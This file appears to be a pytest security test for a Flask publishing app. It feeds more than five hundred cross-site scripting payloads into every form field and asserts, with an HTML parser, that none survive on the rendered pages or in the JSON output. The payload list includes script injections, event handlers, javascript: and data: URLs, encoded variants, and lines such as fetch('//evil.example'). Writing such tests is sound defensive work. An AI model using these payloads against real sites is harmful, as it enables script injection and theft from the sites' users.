"""Five hundred payloads typed into every field of an interpretation: nothing runs, loads or leads out.

Every page is held to be well-formed by the client (html5lib finds no error in it): what is read off it here
is what a browser reads.
"""

import itertools
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import datetime
from html.parser import HTMLParser
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from base.staff.roles import Actor, Role
from interpretations.rules.content import Block, Content
from interpretations.rules.terms import BlockKind, Form, Origin

ALERT = "alert(1)"
FOREIGN = "http://evil.example/x"
# Whatever runs, loads or leads out, by its kind; {} is where it does it.
MARKUP = (
    "<script>{js}</script>",
    "<script src={url}></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<SCRIPT\n>{js}</SCRIPT\n>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><foreignObject><body onload={js}></foreignObject></svg>",
    "<math><mtext><style><img src=x onerror={js}></style></mtext></math>",
    "<math href='javascript:{js}'>x</math>",
    "<img src=x onerror={js}>",
    "<img src={url}>",
    "<img src='//evil.example/x.png' srcset='{url} 2x'>",
    "<picture><source srcset={url}><img></picture>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<p style='background:url({url})'>x</p>",
    "<p style='width:expression({js})'>x</p>",
    "<link rel=stylesheet href={url}>",
    "<base href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<video src={url} onerror={js}></video>",
    "<audio src={url} autoplay></audio>",
    "<video poster={url}><source onerror={js}></video>",
    "<form action={url}><button>x</button></form>",
    "<input autofocus onfocus={js}>",
    "<button formaction='javascript:{js}'>x</button>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<body onload={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<div onmouseover={js}>x</div>",
    "<p/onclick={js}>x",
    "<table background={url}><tr><td background={url}>x</td></tr></table>",
    "<td onclick={js}>x</td>",
    "<a href='{link}'>x</a>",
    "<a href={link}>x</a>",
    '<a href="{link}" onclick="{js}">x</a>',
    "<a href=' {link}'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<template><script>{js}</script></template>",
    "<xmp><script>{js}</script></xmp>",
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='{url}'?>",
    '"><script>{js}</script>',
    "'><img src=x onerror={js}>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "</template><script>{js}</script>",
    "</script><script>{js}</script>",
    "--><script>{js}</script>",
    "{{{{ 7*7 }}}}<script>{js}</script>",
    "[x]({link})",
    "[x](<{link}>)",
    '[x]({link} "t")',
    "[x][r]\n\n[r]: {link}",
    "<{link}>",
    "![x]({url})",
    "![x]({link})",
    "![x][r]\n\n[r]: {url}",
    "`<script>{js}</script>`",
    "```\n<script>{js}</script>\n```",
    "    <script>{js}</script>",
    "> <img src=x onerror={js}>",
    "| <script>{js}</script> | b |\n|---|---|\n| <img src=x onerror={js}> | {url} |",
    "* <svg/onload={js}>",
    "# <img src=x onerror={js}>",
    "[<img src=x onerror={js}>]({link})",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{js}",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}'>x</a>",
    "<a href='java&Tab;script:{js}'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{js}'>x</a>",
    '<img src="`x`" `onerror={js}`>',
    "<img/src=x/onerror={js}>",
    "<img src=x onerror\n=\n{js}>",
    "<listing><img onerror={js} src=x></listing>",
    "<isindex action='javascript:{js}' type=submit>",
    "<frameset onload={js}><frame src={url}></frameset>",
)
LINKS = (
    f"javascript:{ALERT}",
    f"JaVaScRiPt:{ALERT}",
    f"java\tscript:{ALERT}",
    f" javascript:{ALERT}",
    f"javascript&colon;{ALERT}",
    f"vbscript:{ALERT}",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:http://evil.example/1",
    f"jAvAsCrIpT://x%0A{ALERT}",
)
SCRIPTS = (
    ALERT,
    "top['al'+'ert'](1)",
    "fetch('//evil.example')",
    "import('//evil.example')",
    "0;alert`1`",
)


def payloads() -> Iterator[str]:
    """Every pattern with every script, or with every link, that it has a place for."""
    for pattern in MARKUP:
        scripts = SCRIPTS if "{js}" in pattern else SCRIPTS[:1]
        links = LINKS if "{link}" in pattern else LINKS[:1]
        for js, link in itertools.product(scripts, links):
            yield pattern.format(js=js, url=FOREIGN, link=link)


PAYLOADS = tuple(dict.fromkeys(payloads()))
# A form holds 120 blocks.
BATCH = 110
TEXTS = ("title", "lead", "speaker", "contact", "credit", "transcript", "picture_text")
# Our own pages load these, and nothing else.
OWN = re.compile(r"/(?!/)|#|data:image/png;base64,|$")
ACTIVE = {
    "iframe",
    "object",
    "embed",
    "base",
    "frame",
    "frameset",
    "applet",
    "math",
    "foreignobject",
    "marquee",
}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")
BLANKS = "".join(map(chr, range(33)))
LOADING = {"src", "srcset", "poster", "background", "data", "xlink:href", "action", "formaction"}


class Watcher(HTMLParser):
    """Notes whatever of a page would run, load or lead where it must not."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        held = {name: value or "" for name, value in attrs}
        if tag in ACTIVE or (tag == "meta" and "http-equiv" in held):
            self.found.append(f"<{tag}>")
        if tag == "style" or "style" in held:
            self.found.append(f"style on <{tag}>")
        if (
            tag == "script"
            and held.get("type") != "application/ld+json"
            and not held.get("src", "").startswith("/static/")
        ):
            self.found.append(f"script {held}")
        if tag == "link" and not held.get("href", "").startswith(("/", "http://localhost/")):
            self.found.append(f"link {held}")
        for name, value in held.items():
            # As browsers read an address (URL standard 4.4): tabs and line ends go wherever they stand,
            # blanks only at its ends.
            self._judge(tag, name, re.sub(r"[\t\n\r]", "", value).strip(BLANKS).lower())

    def _judge(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on"):
            self.found.append(f"{name} on <{tag}>")
        if name in LOADING and not OWN.match(value):
            self.found.append(f"{name}={value[:60]} on <{tag}>")
        scheme = SCHEME.match(value) if name == "href" else None
        if scheme and scheme[1] not in {"http", "https", "mailto", "tel"}:
            self.found.append(f"href={value[:60]} on <{tag}>")


def unsafe(page: str) -> list[str]:
    watcher = Watcher()
    watcher.feed(page)
    watcher.close()
    return watcher.found


def batches() -> list[tuple[str, ...]]:
    return [PAYLOADS[at : at + BATCH] for at in range(0, len(PAYLOADS), BATCH)]


@pytest.fixture
def explained(
    request: pytest.FixtureRequest,
    app: Flask,
    hold_clock: Callable[[datetime], None],
    act_as: Callable[..., Actor],
) -> Any:
    """The department of the tests of interpretations, its drafter at the desk."""
    house = request.getfixturevalue("explaining_house")
    hold_clock(house.NOON)
    made = house.furnish(app.extensions["database"])
    act_as(Role.DRAFTER, unit_id=made.water, unit="水生态环境处", organ=house.DEPARTMENT, account_id=None)
    return made


def typed(document: int, batch: tuple[str, ...]) -> dict[str, str]:
    """The whole form, with payloads in every field that takes words, and blocks of every kind."""
    made = {"work": f"document-{document}", "form": "text", "origin": "own", "layout": "points", "last": "0"}
    made |= {name: batch[place % len(batch)][:110] for place, name in enumerate(TEXTS)}
    made |= {"source_url": batch[0], "media_url": batch[-1], "token": batch[1]}
    kinds = [kind.value for kind in BlockKind]
    for place, payload in enumerate(batch):
        name = f"b-{place}"
        made |= {f"{name}-kind": kinds[place % len(kinds)], f"{name}-key": payload[:10], f"{name}-aspect": ""}
        made |= {f"{name}-heading": payload, f"{name}-words": payload, f"{name}-aside": payload}
        made |= {f"{name}-refs": payload if place % 7 == 0 else ""}
    return made


def test_there_are_at_least_five_hundred() -> None:
    assert len(PAYLOADS) >= 500


def test_the_watcher_sees_what_it_watches_for() -> None:
    plain = (
        "<script>",
        "<img src=x",
        "<svg onload",
        "<iframe",
        "<style>",
        "<div onmouseover",
        "<meta",
        "<base",
    )
    raw = [payload for payload in PAYLOADS if payload.startswith(plain)]
    assert len(raw) > 20
    assert all(map(unsafe, raw))


@pytest.mark.parametrize("batch", batches(), ids=lambda batch: f"from-{PAYLOADS.index(batch[0])}")
def test_nothing_typed_into_the_form_survives_in_form_or_preview(
    explained: Any, client: FlaskClient, batch: tuple[str, ...]
) -> None:
    form = typed(explained.document, batch)
    # The page of the form holds the preview, too; its own address is tried with the first ones.
    alone = ("/desk/interpretations/preview",) if batch[0] == PAYLOADS[0] else ()
    for path in ("/desk/interpretations/new", *alone):
        answer = client.post(path, data=form)
        assert answer.status_code in {200, 422}
        assert unsafe(answer.get_data(as_text=True)) == []
    paste = client.post("/desk/interpretations/new", data=form | {"do": "split", "paste": "\n\n".join(batch)})
    assert unsafe(paste.get_data(as_text=True)) == []


@pytest.mark.parametrize("batch", batches(), ids=lambda batch: f"from-{PAYLOADS.index(batch[0])}")
def test_nothing_kept_survives_on_the_public_page_or_in_json(
    explained: Any, client: FlaskClient, batch: tuple[str, ...]
) -> None:
    kinds = list(BlockKind)
    blocks = tuple(
        Block(f"b{place}", kinds[place % len(kinds)], payload, payload, payload)
        for place, payload in enumerate(batch, 1)
    )
    words = {name: batch[place] for place, name in enumerate(TEXTS)}
    content = replace(
        Content(form=Form.TEXT, origin=Origin.EXPERT, blocks=blocks, source_url="https://a.example/1"),
        **words,
    )
    key = explained.publish(content)
    # A former version is shown by the template of the working copy.
    former = (f"/desk/interpretations/{key}/versions/1",) if batch[0] == PAYLOADS[0] else ()
    for path in (f"/interpretations/{key}", f"/desk/interpretations/{key}", *former):
        answer = client.get(path)
        assert answer.status_code == 200
        assert unsafe(answer.get_data(as_text=True)) == [], path
    told = client.get(f"/interpretations/{key}.json")
    assert told.mimetype == "application/json"
    for html in strings(json.loads(told.get_data(as_text=True))):
        # Words are told as they were typed, HTML only as it was made safe.
        for payload in sorted(batch, key=len, reverse=True):
            html = html.replace(payload, "")  # noqa: PLW2901  # the same, but for what was typed
        assert unsafe(html) == []


def strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from itertools.chain.from_iterable(map(strings, value.values()))
    elif isinstance(value, list):
        yield from itertools.chain.from_iterable(map(strings, value))
